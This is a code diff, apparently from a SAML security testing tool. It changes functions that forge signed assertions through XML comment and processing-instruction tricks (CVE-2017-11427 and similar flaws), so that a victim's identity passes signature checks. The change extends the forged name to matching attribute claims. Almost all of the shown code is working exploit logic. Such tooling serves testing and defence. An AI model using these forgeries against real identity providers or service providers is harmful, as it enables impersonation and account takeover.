@@ -11,16 +11,26 @@ import { renamed, victimTwin, withNameIdContent, withVictimContent } from './vic
 const suffix = '.attacker.example';
 
 /** The identity that is really asserted when the victim's name is only its beginning. */
-export function extendedVictim(facts: Facts): string {
+export function extendedVictim(facts: Pick<Facts, 'victim'>): string {
   return facts.victim.nameId.value + suffix;
 }
 
-/** The signed NameID begins with the victim's and goes on after a comment (CVE-2017-11427 and its siblings). */
+/**
+ * Writes the extended name as `content`, in the NameID and in every claim of the same value: many service providers know
+ * people by a claim.
+ */
+function written(xml: string, facts: Facts, content: string): string {
+  const whole = escapeText(extendedVictim(facts));
+  const claims = editInner(xml, 'AttributeValue', (inner) => (inner === whole ? content : inner));
+  return withNameIdContent(claims, content);
+}
+
+/** The signed name begins with the victim's and goes on after a comment (CVE-2017-11427 and its siblings). */
 export function nameIdSplitByComment(): Mutation {
   return {
     plan: (plan, facts) => renamed(plan, facts.subject.nameId.value, extendedVictim(facts)),
     // Canonicalization without comments drops it again: the signature stays valid.
-    afterSigning: (xml, facts) => withNameIdContent(xml, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
+    afterSigning: (xml, facts) => written(xml, facts, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
   };
 }
 
@@ -36,15 +46,15 @@ export function signedComment(): Mutation {
         ...signature,
         transforms,
       })),
-    beforeSigning: (xml, facts) => withNameIdContent(xml, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
+    beforeSigning: (xml, facts) => written(xml, facts, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
   };
 }
 
-/** The end of the signed NameID stands in a processing instruction, which some canonicalizers print as text. */
+/** The end of the signed name stands in a processing instruction, which some canonicalizers print as text. */
 export function nameIdEndsInInstruction(): Mutation {
   return {
     plan: (plan, facts) => renamed(plan, facts.subject.nameId.value, extendedVictim(facts)),
-    afterSigning: (xml, facts) => withNameIdContent(xml, `${escapeText(facts.victim.nameId.value)}<?x ${suffix}?>`),
+    afterSigning: (xml, facts) => written(xml, facts, `${escapeText(facts.victim.nameId.value)}<?x ${suffix}?>`),
   };
 }
 
